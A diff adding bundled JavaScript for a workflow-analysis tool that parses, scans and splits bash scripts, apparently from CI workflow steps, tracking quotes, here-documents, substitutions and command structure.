+    if (expressions.length === 0)
+        return parts;
+    return [...parts.filter((part) => part.kind !== "expression"), ...expressions].sort((a, b) => a.start - b.start);
+}
+function collectArithmetic(node, into, context) {
+    switch (node.type) {
+        case "ArithmeticBinary":
+            collectArithmetic(node.left, into, context);
+            collectArithmetic(node.right, into, context);
+            return;
+        case "ArithmeticUnary":
+            collectArithmetic(node.operand, into, context);
+            return;
+        case "ArithmeticTernary":
+            collectArithmetic(node.test, into, context);
+            collectArithmetic(node.consequent, into, context);
+            collectArithmetic(node.alternate, into, context);
+            return;
+        case "ArithmeticGroup":
+            collectArithmetic(node.expression, into, context);
+            return;
+        case "ArithmeticCommandExpansion": {
+            const commands = node.script ? context.substitution(node.script, context.text, context.place) : [];
+            into.push({ kind: "substitution", ...context.place(node.pos, node.end), quoted: "none", commands });
+            return;
+        }
+        case "ArithmeticWord":
+            if (node.parts)
+                for (const part of node.parts.flatMap((child) => convertPart(child, "none", context)))
+                    into.push(part);
+            else if (NAME.test(node.value)) {
+                const span = context.place(node.pos, node.end);
+                into.push({ kind: "variable", ...span, quoted: "none", name: node.value, operator: undefined, operand: [] });
+            }
+    }
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/convert.js
+
+/** Adds the commands of a syntax tree to `collected`. */
+function convertScript(tree, source, text, placement, place, collected) {
+    const converter = new Converter(source, text, placement, collected);
+    converter.list(tree.commands, place, []);
+}
+class Converter {
+    source;
+    text;
+    place;
+    collected;
+    /** Where the words being converted stand; substitutions in them inherit it. */
+    wordPlace;
+    constructor(source, text, place, collected) {
+        this.source = source;
+        this.text = text;
+        this.place = place;
+        this.collected = collected;
+    }
+    list(statements, place, into) {
+        for (const { command } of statements)
+            this.node(command, place, into);
+    }
+    substitution(script, text, placement) {
+        const outer = this.wordPlace;
+        const inner = { ...outer, inSubstitution: true, group: undefined };
+        const commands = [];
+        const converter = new Converter(this.source, text, placement, this.collected);
+        converter.list(script.commands, inner, commands);
+        return commands;
+    }
+    node(node, place, into) {
+        switch (node.type) {
+            case "Command":
+                return this.command(node, place, into);
+            case "Pipeline":
+                this.pipeline(node, place, into);
+                return undefined;
+            case "AndOr":
+                this.andOr(node, place, into);
+                return undefined;
+            case "Function":
+                return this.function(node, place, into);
+            case "Coproc":
+                if (node.body.type === "CompoundList")
+                    this.list(node.body.commands, place, into);
+                else
+                    return this.node(node.body, place, into);
+                return undefined;
+            case "TestCommand":
+                return this.testCommand(node, place, [], into);
+            case "ArithmeticCommand":
+                return this.arithmeticCommand(node, place, [], into);
+            case "Redirected":
+                return this.redirected(node, place, into);
+            default:
+                return this.compound(node, place, [], into);
+        }
+    }
+    andOr(node, place, into) {
+        node.commands.forEach((command, index) => {
+            const operator = node.operators[index - 1];
+            const at = operator ? under(place, operator === "&&" ? "and" : "or") : place;
+            this.node(command, at, into);
+        });
+    }
+    pipeline(node, place, into) {
+        const stages = [];
+        for (const command of node.commands) {
+            const stage = this.node(command, place, into);
+            if (stage)
+                stages.push(stage);
+        }
+        if (stages.length < 2)
+            return;
+        stages.forEach((stage, index) => {
+            stage.pipeline = { index, stages };
+        });
+    }
+    command(node, place, into) {
+        const assignments = [];
+        const redirects = [];
+        const args = [];
+        const command = this.add(node, place, into, { name: undefined, args, assignments, redirects });
+        this.wordPlace = place;
+        for (const child of node.prefix) {
+            if (child.type === "Assignment")
+                assignments.push(this.assignment(child));
+            else
+                redirects.push(this.redirect(child));
+        }
+        if (node.name)
+            command.name = wordOf(node.name, this);
+        for (const child of node.suffix) {
+            if (child.type === "Word")
+                args.push(wordOf(child, this));
+            else if (child.type === "Assignment")
+                args.push(assignmentWord(child, this));
+            else
+                redirects.push(this.redirect(child));
+        }
+        return command;
+    }
+    add(node, place, into, content) {
+        const command = {
+            kind: "command",
+            ...this.place(node.pos, node.end),
+            ...content,
+            place,
+            pipeline: undefined,
+        };
+        this.collected.commands.push(command);
+        into.push(command);
+        return command;
+    }
+    assignment(node) {
+        const { value } = node;
+        // A subscript may run commands.
+        if (node.index)
+            wordOf(node.index, this);
+        const values = value.type === "ArrayValue" ? value.elements : value.end > value.pos ? [value] : [];
+        return {
+            ...this.place(node.pos, node.end),
+            name: node.name,
+            append: node.append === true,
+            values: values.map((word) => wordOf(word, this)),
+        };
+    }
+    redirect(node) {
+        const base = {
+            ...this.place(node.pos, node.end),
+            operator: node.operator,
+            descriptor: descriptorOf(node.descriptor),
+        };
+        if (node.type !== "HereDoc") {
+            return { ...base, target: node.target && wordOf(node.target, this), heredoc: undefined };
+        }
+        const { delimiter, body } = node;
+        const quoted = delimiter?.quoted ?? false;
+        return {
+            ...base,
+            target: delimiter && plainWord(delimiter.pos, delimiter.end, this),
+            heredoc: {
+                body: this.place(body.pos, body.end),
+                delimiter: delimiter?.value ?? "",
+                quoted,
+                content: heredocWord(body, quoted, this),
+            },
+        };
+    }
+    redirects(nodes, place) {
+        this.wordPlace = place;
+        return nodes.map((node) => this.redirect(node));
+    }
+    redirected(node, place, into) {
+        const redirects = this.redirects(node.redirects, place);
+        const { command } = node;
+        if (command.type === "TestCommand")
+            return this.testCommand(command, place, redirects, into);
+        if (command.type === "ArithmeticCommand")
+            return this.arithmeticCommand(command, place, redirects, into);
+        return this.compound(command, place, redirects, into, node);
+    }
+    function(node, place, into) {
+        const name = node.name.value;
+        return this.group("function", node, place, { name }, into, (inside, commands) => {
+            const body = { ...inside, inFunction: name };
+            if (node.body.type === "CompoundList")
+                this.list(node.body.commands, body, commands);
+            else
+                this.node(node.body, body, commands);
+        });
+    }
+    compound(node, place, redirects, into, whole = node) {
+        this.wordPlace = place;
+        switch (node.type) {
+            case "BraceGroup":
+            case "Subshell":
+                return this.group(node.type === "Subshell" ? "subshell" : "brace", whole, place, { redirects }, into, (inside, to) => this.list(node.body.commands, inside, to));
+            case "If":
+                return this.group("if", whole, place, { redirects }, into, (inside, to) => this.branches(node, inside, to));
+            case "While":
+                return this.group("while", whole, place, { redirects }, into, (inside, to) => {
+                    this.list(node.clause.commands, under(inside, "loop-test"), to);
+                    this.list(node.body.commands, under(inside, "loop-body"), to);
+                });
+            case "For":
+            case "Select": {
+                const words = (node.wordlist ?? []).map((word) => wordOf(word, this));
+                const kind = node.type === "For" ? "for" : "select";
+                return this.group(kind, whole, place, { redirects, words, name: node.name.value }, into, (inside, to) => this.list(node.body.commands, under(inside, "loop-body"), to));
+            }
+            case "ArithmeticFor": {
+                const words = [node.initialize, node.test, node.update].flatMap((part) => part ? [arithmeticWord(part, part, this)] : []);
+                return this.group("for", whole, place, { redirects, words }, into, (inside, to) => this.list(node.body.commands, under(inside, "loop-body"), to));
+            }
+            case "Case": {
+                const words = [wordOf(node.word, this)];
+                return this.group("case", whole, place, { redirects, words }, into, (inside, to) => {
+                    const body = under(inside, "case-body");
+                    for (const item of node.items) {
+                        this.wordPlace = inside;
+                        for (const pattern of item.pattern)
+                            wordOf(pattern, this);
+                        this.list(item.body.commands, body, to);
+                    }
+                });
+            }
+        }
+    }
+    branches(node, inside, into) {
+        this.list(node.clause.commands, under(inside, "if-test"), into);
+        this.list(node.then.commands, under(inside, "if-body"), into);
+        const otherwise = under(inside, "else-body");
+        for (const branch of node.elif) {
+            this.list(branch.clause.commands, under(otherwise, "if-test"), into);
+            this.list(branch.then.commands, under(inside, "if-body"), into);
+        }
+        if (node.else)
+            this.list(node.else.commands, otherwise, into);
+    }
+    group(kind, node, place, content, into, fill) {
+        const commands = [];
+        const group = {
+            kind,
+            ...this.place(node.pos, node.end),
+            name: content.name,
+            words: content.words ?? [],
+            redirects: content.redirects ?? [],
+            commands,
+            place,
+            pipeline: undefined,
+        };
+        this.collected.groups.push(group);
+        fill({ ...place, group }, commands);
+        for (const command of commands)
+            into.push(command);
+        return group;
+    }
+    testCommand(node, place, redirects, into) {
+        const args = [];
+        const name = plainWord(node.pos, node.pos + 2, this);
+        const command = this.add(node, place, into, { name, args, assignments: [], redirects });
+        this.wordPlace = place;
+        this.operands(node.expression, args);
+        return command;
+    }
+    operands(node, into) {
+        switch (node.type) {
+            case "TestUnary":
+                into.push(wordOf(node.operand, this));
+                return;
+            case "TestBinary":
+                into.push(wordOf(node.left, this), wordOf(node.right, this));
+                return;
+            case "TestLogical":
+                for (const operand of node.operands)
+                    this.operands(operand, into);
+                return;
+            case "TestNot":
+                this.operands(node.operand, into);
+                return;
+            case "TestGroup":
+                this.operands(node.expression, into);
+        }
+    }
+    arithmeticCommand(node, place, redirects, into) {
+        const args = [];
+        const name = plainWord(node.pos, node.pos + 2, this);
+        const command = this.add(node, place, into, { name, args, assignments: [], redirects });
+        this.wordPlace = place;
+        args.push(arithmeticWord(node.expression, { pos: node.pos + 2, end: Math.max(node.pos + 2, node.end - 2) }, this));
+        return command;
+    }
+}
+function under(place, condition) {
+    return { ...place, conditions: [...place.conditions, condition] };
+}
+function descriptorOf(descriptor) {
+    if (!descriptor)
+        return undefined;
+    return descriptor.type === "FileDescriptor" ? String(descriptor.value) : `{${descriptor.name}}`;
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/regions.js
+/** Collects the regions of a script while a lexer goes through it from start to end. */
+class RegionRecorder {
+    regions = [];
+    #start = 0;
+    #quoting = "none";
+    /** From `at` on, the text is inside `quoting`. */
+    enter(at, quoting) {
+        if (quoting === this.#quoting)
+            return;
+        this.finish(at);
+        this.#start = at;
+        this.#quoting = quoting;
+    }
+    /** The text ends at `at`. */
+    finish(at) {
+        if (this.#quoting !== "none" && at > this.#start) {
+            this.regions.push({ start: this.#start, end: at, quoting: this.#quoting });
+        }
+        this.#start = at;
+        return this.regions;
+    }
+}
+/** Index of the first region that ends after `offset`. */
+function regionIndex(regions, offset) {
+    let low = 0;
+    let high = regions.length;
+    while (low < high) {
+        const middle = (low + high) >> 1;
+        if (regions[middle].end <= offset)
+            low = middle + 1;
+        else
+            high = middle;
+    }
+    return low;
+}
+/** What `offset` is inside of; quotes themselves count as inside. */
+function quotingIn(regions, offset) {
+    const region = regions[regionIndex(regions, offset)];
+    return region !== undefined && region.start <= offset ? region.quoting : "none";
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/scan.js
+
+/** Finds quotes, comments, here-documents and substitutions. Takes a script whose `${{ }}` are masked. */
+function scanBash(text) {
+    return new Scanner(text).run();
+}
+/** Deeper nesting is read as plain text: no script that a person wrote has it. */
+const MAX_DEPTH = 200;
+const COMMAND_FOLLOWS = new Set(["then", "do", "else", "elif", "if", "while", "until", "!", "{", "time"]);
+class Scanner {
+    text;
+    recorder = new RegionRecorder();
+    substitutions = [];
+    heredocs = [];
+    stack = [];
+    at = 0;
+    /** Where the innermost open here-document's body ends. */
+    limit;
+    openBackticks = 0;
+    constructor(text) {
+        this.text = text;
+        this.limit = text.length;
+    }
+    run() {
+        this.push("code", "none", "");
+        for (;;) {
+            if (this.at >= this.limit) {
+                if (!this.endHeredoc())
+                    break;
+                continue;
+            }
+            const frame = this.top;
+            if (frame.kind === "code")
+                this.code(frame);
+            else if (frame.kind === "double")
+                this.double();
+            else if (frame.kind === "parameter")
+                this.parameter(frame);
+            else if (frame.kind === "arithmetic")
+                this.arithmetic(frame);
+            else
+                this.expandable();
+        }
+        for (const { substitution } of this.stack)
+            this.closeSubstitution(substitution, this.text.length, 0);
+        return {
+            regions: this.recorder.finish(this.text.length),
+            substitutions: this.substitutions,
+            heredocs: this.heredocs,
+        };
+    }
+    get top() {
+        return this.stack[this.stack.length - 1];
+    }
+    push(kind, quoting, closer) {
+        const frame = {
+            kind,
+            quoting,
+            closer,
+            depth: 0,
+            cases: 0,
+            atCommand: true,
+            pending: undefined,
+            substitution: undefined,
+            bodyEnd: 0,
+            after: 0,
+        };
+        this.stack.push(frame);
+        this.recorder.enter(this.at, quoting);
+        return frame;
+    }
+    /** Leaves the innermost frame; `at` is the offset after its end. */
+    pop(fence) {
+        const frame = this.stack.pop();
+        this.closeSubstitution(frame.substitution, this.at, fence);
+        if (frame.closer === "`")
+            this.openBackticks--;
+        const parent = this.top;
+        if (frame.pending && parent.kind === "code")
+            parent.pending = [...(parent.pending ?? []), ...frame.pending];
+        this.recorder.enter(this.at, parent.quoting);
+    }
+    closeSubstitution(substitution, end, fence) {
+        if (!substitution)
+            return;
+        substitution.end = end;
+        substitution.body.end = Math.max(substitution.body.start, end - fence);
+    }
+    code(frame) {
+        const { text } = this;
+        const start = this.at;
+        const char = text[start];
+        switch (char) {
+            case "\n":
+                this.at++;
+                frame.atCommand = true;
+                if (frame.pending)
+                    this.startHeredoc(frame);
+                return;
+            case " ":
+            case "\t":
+            case "\r":
+                this.at++;
+                return;
+            case ";":
+            case "|":
+            case "&":
+                this.at++;
+                frame.atCommand = true;
+                return;
+            case "#":
+                if (this.atWordStart())
+                    this.comment();
+                else
+                    this.at++;
+                return;
+            case "'":
+                frame.atCommand = false;
+                this.plainQuote("single", start + 1);
+                return;
+            case '"':
+                frame.atCommand = false;
+                this.openDouble();
+                return;
+            case "(":
+                if (text[start + 1] === "(" && frame.atCommand)
+                    this.openArithmetic(2);
+                else {
+                    frame.depth++;
+                    frame.atCommand = true;
+                    this.at++;
+                }
+                return;
+            case ")":
+                this.closeParenthesis(frame);
+                return;
+            case "<":
+            case ">":
+                this.angle(frame, char);
+                return;
+        }
+        if (this.escapeOrExpansion(char)) {
+            frame.atCommand = false;
+            return;
+        }
+        if (frame.atCommand && this.atWordStart())
+            this.commandWord(frame);
+        else
+            this.at++;
+    }
+    closeParenthesis(frame) {
+        this.at++;
+        frame.atCommand = true;
+        if (frame.depth > 0)
+            frame.depth--;
+        else if (frame.closer === ")" && frame.cases === 0)
+            this.pop(1);
+    }
+    angle(frame, char) {
+        const { text, at } = this;
+        const next = text[at + 1];
+        if (next === "(")
+            this.openSubstitution(2);
+        else if (char === "<" && next === "<") {
+            if (text[at + 2] === "<")
+                this.at += 3;
+            else
+                this.heredocOperator(frame);
+        }
+        else
+            this.at++;
+    }
+    /** Reads reserved words, as far as they say where a command begins. */
+    commandWord(frame) {
+        const start = this.at;
+        let end = start;
+        while (end < this.limit && isNameCode(this.text.charCodeAt(end)))
+            end++;
+        const word = this.text.slice(start, Math.min(end, start + 8));
+        if (end === start) {
+            const char = this.text[start];
+            if (!COMMAND_FOLLOWS.has(char))
+                frame.atCommand = false;
+            this.at++;
+            return;
+        }
+        this.at = end;
+        if (word === "case")
+            frame.cases++;
+        else if (word === "esac" && frame.cases > 0)
+            frame.cases--;
+        frame.atCommand = COMMAND_FOLLOWS.has(word);
+    }
+    atWordStart() {
+        if (this.at === 0)
+            return true;
+        const before = this.text[this.at - 1];
+        return " \t\r\n;&|()`".includes(before);
+    }
+    comment() {
+        this.recorder.enter(this.at, "comment");
+        while (this.at < this.limit) {
+            const char = this.text[this.at];
+            // Inside backticks the closing one ends the comment too.
+            if (char === "\n" || (char === "`" && this.openBackticks > 0))
+                break;
+            this.at++;
+        }
+        this.recorder.enter(this.at, this.top.quoting);
+    }
+    /** A quote without expansions, from `at` to the quote that closes it; the content begins at `content`. */
+    plainQuote(quoting, content) {
+        this.recorder.enter(this.at, quoting);
+        const end = this.text.indexOf("'", content);
+        this.at = end < 0 || end >= this.limit ? this.limit : end + 1;
+        this.recorder.enter(this.at, this.top.quoting);
+    }
+    ansiQuote() {
+        this.recorder.enter(this.at, "ansi-c");
+        this.at += 2;
+        while (this.at < this.limit && this.text[this.at] !== "'")
+            this.at += this.text[this.at] === "\\" ? 2 : 1;
+        this.at = Math.min(this.at + 1, this.limit);
+        this.recorder.enter(this.at, this.top.quoting);
+    }
+    openDouble() {
+        this.push("double", "double", "");
+        this.at++;
+    }
+    openArithmetic(fence) {
+        if (this.stack.length >= MAX_DEPTH)
+            this.at += fence;
+        else {
+            this.push("arithmetic", "arithmetic", "");
+            this.at += fence;
+        }
+    }
+    openSubstitution(fence, closer = ")") {
+        if (this.stack.length >= MAX_DEPTH) {
+            this.at += fence;
+            return;
+        }
+        const start = this.at;
+        const body = { start: start + fence, end: start + fence };
+        const substitution = { start, end: start + fence, body };
+        this.substitutions.push(substitution);
+        this.push("code", "none", closer).substitution = substitution;
+        if (closer === "`")
+            this.openBackticks++;
+        this.at += fence;
+    }
+    /** `\`, `$` and backticks, which mean the same in code, double quotes and here-documents. */
+    escapeOrExpansion(char) {
+        if (char === "\\") {
+            this.at = Math.min(this.at + 2, this.limit);
+            return true;
+        }
+        if (char === "`") {
+            if (this.openBackticks > 0)
+                this.closeBacktick();
+            else
+                this.openSubstitution(1, "`");
+            return true;
+        }
+        if (char !== "$")
+            return false;
+        const next = this.text[this.at + 1];
+        if (next === "(") {
+            if (this.text[this.at + 2] === "(")
+                this.openArithmetic(3);
+            else
+                this.openSubstitution(2);
+        }
+        else if (next === "{")
+            this.openParameter();
+        else if (next === "'" && this.top.kind === "code")
+            this.ansiQuote();
+        else if (next === '"' && this.top.kind === "code")
+            this.at++;
+        else
+            this.at = Math.min(this.at + 2, this.limit);
+        return true;
+    }
+    closeBacktick() {
+        while (this.top.closer !== "`")
+            this.pop(0);
+        this.at++;
+        this.pop(1);
+        this.limit = this.outerLimit();
+    }
+    openParameter() {
+        if (this.stack.length >= MAX_DEPTH) {
+            this.at += 2;
+            return;
+        }
+        this.push("parameter", this.top.quoting, "");
+        this.at += 2;
+        // `${#X}`, `${!X}`: what follows isn't a quote or a comment.
+        if ("#!".includes(this.text[this.at] ?? "x"))
+            this.at++;
+    }
+    double() {
+        const char = this.text[this.at];
+        if (char === '"') {
+            this.at++;
+            this.pop(0);
+        }
+        else if (!this.escapeOrExpansion(char))
+            this.at++;
+    }
+    parameter(frame) {
+        const char = this.text[this.at];
+        if (char === "}") {
+            this.at++;
+            this.pop(0);
+        }
+        else if (char === "'" && frame.quoting === "none")
+            this.plainQuote("single", this.at + 1);
+        else if (char === '"')
+            this.openDouble();
+        else if (!this.escapeOrExpansion(char))
+            this.at++;
+    }
+    arithmetic(frame) {
+        const char = this.text[this.at];
+        if (char === "(")
+            frame.depth++;
+        if (char === ")") {
+            if (frame.depth > 0)
+                frame.depth--;
+            else {
+                this.at += this.text[this.at + 1] === ")" ? 2 : 1;
+                this.at = Math.min(this.at, this.limit);
+                this.pop(0);
+                return;
+            }
+        }
+        if (char === '"')
+            this.openDouble();
+        else if (!this.escapeOrExpansion(char))
+            this.at++;
+    }
+    expandable() {
+        const char = this.text[this.at];
+        if (!this.escapeOrExpansion(char))
+            this.at++;
+    }
+    heredocOperator(frame) {
+        const operator = this.at;
+        const { text } = this;
+        let at = operator + 2;
+        const stripsTabs = text[at] === "-";
+        if (stripsTabs)
+            at++;
+        while (text[at] === " " || text[at] === "\t")
+            at++;
+        let delimiter = "";
+        let quoted = false;
+        while (at < this.limit && !" \t\r\n;&|()<>".includes(text[at])) {
+            const char = text[at];
+            if (char === "'" || char === '"') {
+                quoted = true;
+                const close = text.indexOf(char, at + 1);
+                const end = close < 0 || close > this.limit ? this.limit : close;
+                delimiter += text.slice(at + 1, end);
+                this.recorder.enter(at, char === "'" ? "single" : "double");
+                at = end + 1;
+                this.recorder.enter(Math.min(at, this.limit), this.top.quoting);
+            }
+            else if (char === "\\") {
+                quoted = true;
+                delimiter += text[at + 1] ?? "";
+                at += 2;
+            }
+            else {
+                delimiter += char;
+                at++;
+            }
+        }
+        this.at = Math.min(at, this.limit);
+        frame.pending ??= [];
+        frame.pending.push({ operator, delimiter, quoted, stripsTabs });
+    }
+    /** `at` is at the beginning of the body of the first pending here-document. */
+    startHeredoc(frame) {
+        const heredoc = frame.pending?.shift();
+        if (!heredoc) {
+            frame.pending = undefined;
+            return;
+        }
+        const { bodyEnd, after } = this.heredocEnd(heredoc);
+        this.heredocs.push({ operator: heredoc.operator, body: { start: this.at, end: bodyEnd }, after });
+        const inner = this.push("heredoc", heredoc.quoted ? "heredoc-quoted" : "heredoc", "");
+        inner.bodyEnd = bodyEnd;
+        inner.after = after;
+        this.limit = bodyEnd;
+        if (heredoc.quoted)
+            this.at = bodyEnd;
+    }
+    heredocEnd({ delimiter, stripsTabs }) {
+        const { text, limit } = this;
+        for (let line = this.at; line < limit;) {
+            const newline = text.indexOf("\n", line);
+            const end = newline < 0 || newline > limit ? limit : newline;
+            let from = line;
+            while (stripsTabs && text[from] === "\t")
+                from++;
+            const to = text[end - 1] === "\r" ? end - 1 : end;
+            if (to - from === delimiter.length && text.startsWith(delimiter, from)) {
+                return { bodyEnd: line, after: Math.min(end + 1, limit) };
+            }
+            line = end + 1;
+        }
+        return { bodyEnd: limit, after: limit };
+    }
+    /** Goes on after the innermost here-document; false when the script ends. */
+    endHeredoc() {
+        const index = this.stack.findLastIndex((frame) => frame.kind === "heredoc");
+        const frame = this.stack[index];
+        if (!frame)
+            return false;
+        this.at = frame.bodyEnd;
+        while (this.stack.length > index)
+            this.pop(0);
+        this.at = frame.after;
+        this.limit = this.outerLimit();
+        const code = this.top;
+        code.atCommand = true;
+        if (code.pending)
+            this.startHeredoc(code);
+        return true;
+    }
+    outerLimit() {
+        return this.stack.findLast((frame) => frame.kind === "heredoc")?.bodyEnd ?? this.text.length;
+    }
+}
+/** ASCII letters, digits and `_`. */
+function isNameCode(code) {
+    return (code >= 97 && code <= 122) || (code >= 65 && code <= 90) || (code >= 48 && code <= 57) || code === 95;
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/split-word.js
+
+
+/** A word cut out by the splitter; its parts are found when asked for. */
+class SplitWord {
+    from;
+    range;
+    substitutions;
+    start;
+    end;
+    #parts;
+    constructor(from, range, substitutions) {
+        this.from = from;
+        this.range = range;
+        this.substitutions = substitutions;
+        const span = from.place(range.start, range.end);
+        this.start = span.start;
+        this.end = span.end;
+    }
+    get text() {
+        return this.from.source.text.slice(this.start, this.end);
+    }
+    get parts() {
+        this.#parts ??= splitParts(this.from, this.range, this.substitutions);
+        return this.#parts;
+    }
+    get literal() {
+        return literalOf(this.parts);
+    }
+    /** The word without its first `length` characters, `undefined` when nothing is left. */
+    after(length) {
+        const start = this.range.start + length;
+        if (start >= this.range.end)
+            return undefined;
+        return new SplitWord(this.from, { start, end: this.range.end }, this.substitutions.filter(({ span }) => span.start >= start));
+    }
+}
+const VARIABLE = /\$(?:([A-Za-z_][A-Za-z0-9_]*|[0-9@*#?$!-])|\{([#!]?)([A-Za-z_][A-Za-z0-9_]*|[0-9]+|[@*#?$!-])([^}]{0,2})[^}]{0,500}\}?)/y;
+function splitParts(from, range, substitutions) {
+    const { text, scan, source, place } = from;
+    const parts = [];
+    let nextSubstitution = 0;
+    let value = "";
+    let valueStart = range.start;
+    let quoted = "none";
+    let region = regionIndex(scan.regions, range.start);
+    const flush = (end) => {
+        if (value !== "") {
+            const span = place(valueStart, end);
+            appendLiteral(parts, source, value, span.start, span.end, quoted);
+        }
+        value = "";
+        valueStart = end;
+    };
+    let at = range.start;
+    while (at < range.end) {
+        const substitution = substitutions[nextSubstitution];
+        if (substitution && at >= substitution.span.start) {
+            flush(at);
+            at = Math.max(at, substitution.span.end);
+            const span = place(substitution.span.start, at);
+            parts.push({ kind: "substitution", ...span, quoted, commands: substitution.commands });
+            valueStart = at;
+            nextSubstitution++;
+            continue;
+        }
+        while (region < scan.regions.length && scan.regions[region]?.end <= at)
+            region++;
+        const current = scan.regions[region];
+        const inside = current !== undefined && current.start <= at ? current : undefined;
+        const nowQuoted = quotedAs(inside);
+        if (nowQuoted !== quoted) {
+            flush(at);
+            quoted = nowQuoted;
+        }
+        const char = text[at];
+        if (inside && (at === inside.start || at === inside.end - 1) && (char === "'" || char === '"')) {
+            at++;
+        }
+        else if (quoted === "single") {
+            value += char;
+            at++;
+        }
+        else if (char === "\\" && at + 1 < range.end) {
+            const next = text[at + 1];
+            if (quoted === "none" || '$`"\\'.includes(next))
+                value += next === "\n" ? "" : next;
+            else
+                value += next === "\n" ? "" : char + next;
+            at += 2;
+        }
+        else if (char === '"' ||
+            (char === "$" && (text[at + 1] === "'" || (text[at + 1] === '"' && quoted === "none")))) {
+            at++;
+        }
+        else {
+            VARIABLE.lastIndex = at;
+            const match = char === "$" ? VARIABLE.exec(text) : null;
+            if (match) {
+                flush(at);
+                const end = Math.min(at + match[0].length, range.end);
+                const name = match[1] ?? match[3];
+                parts.push({ kind: "variable", ...place(at, end), quoted, name, operator: split_word_operatorOf(match), operand: [] });
+                at = end;
+                valueStart = at;
+                while (substitutions[nextSubstitution] && substitutions[nextSubstitution]?.span.start < at)
+                    nextSubstitution++;
+            }
+            else {
+                if (quoted === "none" && (char === "*" || char === "?")) {
+                    flush(at);
+                    parts.push({ kind: "glob", ...place(at, at + 1), quoted, pattern: char, parts: [] });
+                    valueStart = at + 1;
+                }
+                else
+                    value += char;
+                at++;
+            }
+        }
+    }
+    flush(range.end);
+    return parts;
+}
+function split_word_operatorOf(match) {
+    if (match[2] === "#")
+        return "length";
+    if (match[2] === "!")
+        return "indirect";
+    return match[4] ? match[4] : undefined;
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/split.js
+
+
+
+/**
+ * Commands of a script that no parser reads: words, redirects, pipelines and groups as far as they show in the text.
+ * Takes anything and finds something.
+ */
+function splitScript(source, masked, placement, place, collected) {
+    const from = { source, text: masked, scan: scanBash(masked), place: placement };
+    new Splitter(from, collected).range({ start: 0, end: masked.length }, place, 0, 0);
+}
+const OPENERS = new Map([
+    ["{", { kind: "brace", closer: "}" }],
+    ["if", { kind: "if", closer: "fi" }],
+    ["while", { kind: "while", closer: "done" }],
+    ["until", { kind: "while", closer: "done" }],
+    ["for", { kind: "for", closer: "done" }],
+    ["select", { kind: "select", closer: "done" }],
+    ["case", { kind: "case", closer: "esac" }],
+]);
+const CONDITIONS = new Map([
+    ["if", "if-body"],
+    ["while", "loop-body"],
+    ["for", "loop-body"],
+    ["select", "loop-body"],
+    ["case", "case-body"],
+]);
+const CLOSERS = new Set(["}", "fi", "done", "esac"]);
+const SEPARATORS = new Set(["then", "do", "else", "elif", "!", "time"]);
+const split_ASSIGNMENT = /^([A-Za-z_][A-Za-z0-9_]*)(?:\[[^\]]*\])?(\+?)=/;
+const split_MAX_DEPTH = 50;
+const NEAR = 500;
+class Splitter {
+    from;
+    collected;
+    bodies = new Map();
+    operators = new Map();
+    constructor(from, collected) {
+        this.from = from;
+        this.collected = collected;
+        for (const heredoc of from.scan.heredocs) {
+            if (heredoc.after > heredoc.body.start)
+                this.bodies.set(heredoc.body.start, heredoc);
+            this.operators.set(heredoc.operator, heredoc);
+        }
+    }
+    /** The here-document whose body begins at `offset`. */
+    bodyAt(offset) {
+        return this.bodies.get(offset);
+    }
+    /** The here-document whose operator is at `offset`. */
+    heredocOf(offset) {
+        return this.operators.get(offset);
+    }
+    /**
+     * Splits a range, which is the whole text or the inside of a substitution.
+     *
+     * @param firstSubstitution index of the first substitution that may begin in the range
+     * @returns the commands of the range and the index of the first substitution after it
+     */
+    range(range, place, firstSubstitution, depth) {
+        const walk = new RangeWalk(this.from, this.collected, range, place, firstSubstitution, depth, this);
+        return walk.run();
+    }
+}
+class RangeWalk {
+    from;
+    collected;
+    limits;
+    place;
+    substitution;
+    depth;
+    splitter;
+    at;
+    commands = [];
+    open = [];
+    draft;
+    stages = [];
+    region;
+    /** Set between `name()` and the body. */
+    functionName;
+    constructor(from, collected, limits, place, substitution, depth, splitter) {
+        this.from = from;
+        this.collected = collected;
+        this.limits = limits;
+        this.place = place;
+        this.substitution = substitution;
+        this.depth = depth;
+        this.splitter = splitter;
+        this.at = limits.start;
+        this.region = regionIndex(from.scan.regions, limits.start);
+    }
+    run() {
+        const { text } = this.from;
+        const { end } = this.limits;
+        while (this.at < end) {
+            if (this.skipHidden())
+                continue;
+            const char = text[this.at];
+            if (char === " " || char === "\t" || char === "\r")
+                this.at++;
+            else if (char === "\\" && (text[this.at + 1] === "\n" || text[this.at + 1] === "\r"))
+                this.at += 2;
+            else if (char === "\n" || char === ";")
+                this.endPipeline();
+            else if (char === "&" && text[this.at + 1] !== ">")
+                this.endPipeline();
+            else if (char === "|")
+                this.pipe();
+            else if (char === "(")
+                this.openParenthesis();
+            else if (char === ")")
+                this.closeParenthesis();
+            else if (this.isRedirect())
+                this.redirect();
+            else
+                this.word();
+        }
+        this.endPipeline();
+        while (this.open.length > 0)
+            this.closeGroup(end);
+        return { commands: this.commands, next: this.substitution };
+    }
+    get inner() {
+        const group = this.open[this.open.length - 1];
+        return group ? group.place : this.place;
+    }
+    /** Steps over comments and bodies of here-documents. */
+    skipHidden() {
+        const { regions } = this.from.scan;
+        while (this.region < regions.length && regions[this.region]?.end <= this.at)
+            this.region++;
+        const region = regions[this.region];
+        if (region?.quoting === "comment" && region.start <= this.at) {
+            this.at = Math.min(region.end, this.limits.end);
+            return true;
+        }
+        const heredoc = this.splitter.bodyAt(this.at);
+        if (heredoc) {
+            this.at = Math.min(heredoc.after, this.limits.end);
+            this.skipSubstitutions();
+            return true;
+        }
+        return false;
+    }
+    skipSubstitutions() {
+        const { substitutions } = this.from.scan;
+        while ((substitutions[this.substitution]?.start ?? Number.POSITIVE_INFINITY) < this.at)
+            this.substitution++;
+    }
+    isPlain() {
+        const { regions } = this.from.scan;
+        while (this.region < regions.length && regions[this.region]?.end <= this.at)
+            this.region++;
+        const region = regions[this.region];
+        return region === undefined || region.start > this.at;
+    }
+    word() {
+        const word = this.readWord();
+        if (!this.draft || this.draft.words.length === 0) {
+            const text = this.from.text.slice(word.range.start, Math.min(word.range.end, word.range.start + 8));
+            if (!this.draft?.closed && this.reserved(text, word.range))
+                return;
+        }
+        const draft = this.begin(word.range.start);
+        draft.words.push(new SplitWord(this.from, word.range, word.substitutions));
+        draft.end = word.range.end;
+    }
